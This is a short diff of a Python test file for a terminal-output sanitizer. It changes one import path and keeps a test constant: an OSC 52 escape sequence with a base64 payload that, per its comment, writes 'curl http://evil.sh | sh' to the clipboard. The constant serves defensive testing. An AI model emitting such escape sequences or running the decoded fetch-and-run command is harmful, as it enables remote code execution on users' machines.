@@ -11,7 +11,7 @@ import sys
 
 import pytest
 
-from memman.sanitize import for_terminal
+from memman.output.sanitize import for_terminal
 from tests.cli.conftest import Cli
 
 OSC52 = "\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5zaCB8IHNo\x07"  # writes `curl http://evil.sh | sh` to the clipboard
